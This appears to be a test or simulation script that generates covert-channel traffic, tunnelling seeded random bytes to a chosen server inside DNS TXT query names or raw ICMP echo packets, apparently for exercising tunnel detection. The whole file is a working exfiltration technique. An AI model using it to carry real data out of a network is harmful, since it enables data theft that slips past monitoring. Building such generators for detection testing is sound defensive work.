"""Carries data out where nobody expects data: in names asked for, or in pings.

attack_tunnel.py dns|icmp SERVER BYTES
"""

import base64
import random
import socket
import struct
import sys
import time

from rawlink import checksum

kind, server, size = sys.argv[1], sys.argv[2], int(sys.argv[3])
data = random.Random(11).randbytes(size)

if kind == "dns":
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(1)
        for number, start in enumerate(range(0, size, 90)):
            text = base64.b32encode(data[start : start + 90]).rstrip(b"=").lower()
            labels = [
                f"{number:04x}".encode(),
                *(text[at : at + 50] for at in range(0, len(text), 50)),
                b"t",
                b"example",
            ]
            name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
            asker.sendto(
                struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 16, 1), (server, 53)
            )
            try:
                asker.recv(512)
            except TimeoutError:
                continue
            time.sleep(0.02)
else:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        for number, start in enumerate(range(0, size, 900)):
            body = data[start : start + 900]
            bare = struct.pack("!BBHHH", 8, 0, 0, 99, number) + body
            raw.sendto(bare[:2] + struct.pack("!H", checksum(bare)) + bare[4:], (server, 0))
            time.sleep(0.05)
